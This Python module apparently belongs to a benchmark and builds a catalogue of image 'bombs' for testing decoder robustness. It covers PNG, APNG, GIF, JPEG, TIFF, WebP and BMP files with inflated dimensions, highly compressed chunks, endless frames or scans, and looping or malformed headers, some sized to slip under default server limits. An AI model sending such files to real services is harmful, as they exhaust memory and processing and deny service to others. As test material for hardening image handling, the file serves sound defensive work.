"""Small files that want to become large: by dimensions, frames, chunks, profiles, scans."""

import struct
import zlib
from collections.abc import Iterator
from functools import cache
from io import BytesIO
from typing import Final

from PIL import Image

from benchmarks.attacks.oddities import SIGNATURE, assemble, chunk, header, pixels

MIB: Final = 1024 * 1024
# Just within the pixels that a server takes by default: decoded, not refused.
LEGAL_SIDE: Final = 6300
LARGE_SIDE: Final = 30_000

Bomb = tuple[str, bytes]


def zeros(num_bytes: int) -> bytes:
    """So many zeros, compressed about a thousand times, without ever holding them."""
    packer = zlib.compressobj(9)
    packed = [packer.compress(bytes(MIB)) for _ in range(num_bytes // MIB)]
    return b"".join((*packed, packer.compress(bytes(num_bytes % MIB)), packer.flush()))


def png_bombs() -> Iterator[Bomb]:
    """Dimensions, and compressed chunks beside a small image."""
    head, body = header(), chunk(b"IDAT", pixels(2, 8, 0))
    for name, side in (("legal", LEGAL_SIDE), ("large", LARGE_SIDE)):
        packed = zeros(side * (3 * side + 1)) if name == "legal" else zeros(16 * MIB)
        yield f"png {name} size", assemble(header(side), chunk(b"IDAT", packed))
        wide = header(side, depth=16, color=6, interlace=1)
        yield f"png {name} size cut", assemble(wide, chunk(b"IDAT", zeros(MIB)))
    full = zeros(200 * MIB)
    for kind, start in (
        (b"zTXt", b"comment\0\0"),
        (b"iTXt", b"comment\0\1\0\0\0"),
        (b"iCCP", b"profile\0\0"),
    ):
        yield f"png {kind.decode()} bomb", assemble(head, chunk(kind, start + full), body)
        yield f"png {kind.decode()} bomb behind", assemble(head, body, chunk(kind, start + full))
    small = chunk(b"zTXt", b"comment\0\0" + zeros(MIB))
    yield "png many zTXt", assemble(head, *[small] * 300, body)
    yield "png many tEXt", assemble(head, *[chunk(b"tEXt", b"a\0b")] * 50_000, body)
    yield "png large eXIf", assemble(head, chunk(b"eXIf", b"MM\0*" + bytes(4 * MIB)), body)
    frames = [
        chunk(b"fcTL", struct.pack(">IIIIIHHBB", n, 32, 32, 0, 0, 1, 1, 0, 0))
        for n in range(10_000)
    ]
    yield (
        "apng many frames",
        assemble(head, chunk(b"acTL", struct.pack(">II", 10**9, 0)), *frames, body),
    )
    yield "png endless", SIGNATURE + head + chunk(b"IDAT", b"") * 100_000


def gif_bombs() -> Iterator[Bomb]:
    """Frames without end, and a screen that no memory holds."""

    def start(width: int, height: int) -> bytes:
        return b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + bytes(6)

    frame = b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02D\x01\0"
    yield "gif many frames", start(1, 1) + frame * 20_000 + b";"
    yield "gif large screen", start(65_535, 65_535) + frame + b";"
    yield "gif legal screen, many frames", start(6000, 6000) + frame * 5_000 + b";"
    large = b"," + struct.pack("<HHHHB", 0, 0, 65_535, 65_535, 0) + b"\x02\x02D\x01\0"
    yield "gif frame over the screen", start(1, 1) + large + b";"
    yield (
        "gif many comments",
        start(1, 1) + (b"!\xfe" + b"\xff" + b"c" * 255 + b"\0") * 10_000 + frame,
    )
    yield (
        "gif without codes",
        start(64, 64) + b"," + struct.pack("<HHHHB", 0, 0, 64, 64, 0) + b"\x0c",
    )


def jpeg_bombs() -> Iterator[Bomb]:
    """Segments by the thousand, dimensions, and scans over and over."""
    stream = BytesIO()
    Image.new("RGB", (64, 64), (90, 60, 30)).save(stream, "JPEG", progressive=True)
    plain = stream.getvalue()
    filled = b"\xff\xfe" + struct.pack(">H", 65_535) + bytes(65_533)
    exif = b"\xff\xe1" + struct.pack(">H", 65_535) + b"Exif\0\0" + b"MM\0*" + b"\xff" * 65_523
    profile = b"\xff\xe2" + struct.pack(">H", 65_535) + b"ICC_PROFILE\0\1\1" + bytes(65_519)
    for name, segment in (("comments", filled), ("EXIF", exif), ("profile", profile)):
        yield f"jpeg much {name}", plain[:2] + segment * 100 + plain[2:]
    frame = plain.index(b"\xff\xc2")
    for name, side in (("legal", LEGAL_SIDE), ("large", 65_000)):
        sized = plain[: frame + 5] + struct.pack(">HH", side, side) + plain[frame + 9 :]
        yield f"jpeg {name} size", sized
        scan = sized.index(b"\xff\xda")
        yield f"jpeg {name} size, many scans", sized[:scan] + sized[scan:-2] * 2_000 + sized[-2:]


def other_bombs() -> Iterator[Bomb]:
    """TIFF, WebP and BMP: directories in a ring, canvases, heights below zero."""
    tags = {256: 60_000, 257: 60_000, 258: 8, 259: 1, 262: 1, 273: 8, 277: 1, 278: 60_000, 279: 10}
    for name, changed in (
        ("large size", {}),
        ("legal size", {256: 6000, 257: 6000}),
        ("many samples", {256: 100, 257: 100, 277: 65_000}),
        ("one row a strip", {256: 1, 257: 2**26, 278: 1}),
        ("deflated nothing", {256: 6000, 257: 6000, 259: 8}),
        ("jpeg inside", {256: 6000, 257: 6000, 259: 7}),
    ):
        entries = sorted({**tags, **changed}.items())
        directory = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in entries)
        count = struct.pack("<H", len(entries))
        yield (
            f"tiff {name}",
            b"II*\0" + struct.pack("<I", 8) + count + directory + struct.pack("<I", 8),
        )
    many = struct.pack("<HHII", 65_000, 2, 2**31, 0) * 65_535
    yield "tiff many entries", b"II*\0" + struct.pack("<IH", 8, 65_535) + many
    yield "tiff itself as next", b"II*\0" + struct.pack("<IHI", 8, 0, 8)
    stream = BytesIO()
    Image.new("RGB", (16, 16)).save(stream, "WEBP", lossless=True)
    inner = stream.getvalue()[12:]
    for flags in (0, 2):
        canvas = struct.pack("<IB3x", 10, flags)[0:8] + (16_383).to_bytes(3, "little") * 2
        body = b"WEBPVP8X" + canvas + inner
        yield "webp large canvas", b"RIFF" + struct.pack("<I", len(body)) + body
    for width, height in ((30_000, 30_000), (6000, -6000), (-1, 1), (1, -(2**31)), (2**31 - 1, 1)):
        info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0)
        yield "bmp size", b"BM" + struct.pack("<IHHI", 100, 0, 0, 54) + info + bytes(64)


@cache
def bombs() -> tuple[Bomb, ...]:
    """All of them, by name; some take a second to make."""
    return (*png_bombs(), *gif_bombs(), *jpeg_bombs(), *other_bombs())
